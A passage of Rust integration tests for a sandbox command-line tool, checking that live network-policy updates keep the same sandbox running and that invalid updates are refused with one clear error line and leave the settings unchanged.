        // The same sandbox all along: keeper and init never restarted.
        let after = inspect(&sb);
        for k in ["id", "init_pid", "keeper_pid"] {
            assert_eq!(before[k], after[k], "[{m}] {k} changed: {before} {after}");
        }
    }
}

#[test]
fn live_update_refusals_are_one_clear_error() {
    let test = "live_update_refusals_are_one_clear_error";
    for mode in modes(test) {
        let m = mode.name;
        let create = |flags: &[&str]| -> LiveSandbox {
            let mut a = vec!["sandbox", "create"];
            a.extend(flags);
            let o = run(mode, &a);
            assert_eq!(code(&o), 0, "[{m}] {}", text(&o.stderr));
            LiveSandbox {
                mode,
                id: text(&o.stdout).trim().to_string(),
            }
        };
        let none = create(&[]);
        let allow = create(&["--allow-host", "a.test"]);
        for (sb, args, needle) in [
            (
                &none,
                vec!["--allow-host", "a.test"],
                "created with no network (--network none",
            ),
            (&allow, vec!["--allow-host", "bad host!"], "bad host!"),
            (
                &allow,
                vec!["--network", "none", "--allow-host", "a.test"],
                "need --network allowlist",
            ),
            (
                &allow,
                vec!["--network", "open", "--allow-cidr", "10.0.0.0/8"],
                "only make sense with --network allowlist",
            ),
        ] {
            let mut a = vec!["sandbox", "network", sb.id.as_str()];
            a.extend(args.iter().copied());
            let o = run(mode, &a);
            let err = text(&o.stderr);
            assert_eq!(code(&o), 125, "[{m}] {a:?}: {err}");
            assert!(err.contains(needle), "[{m}] {a:?}: {err}");
            assert_eq!(err.trim().lines().count(), 1, "[{m}] {err}");
        }
        // The refused updates changed nothing.
        let shown = text(&run(mode, &["sandbox", "network", &allow.id]).stdout);
        assert_eq!(shown, "mode: allowlist\nallow-host: a.test\n", "[{m}]");
    }
}
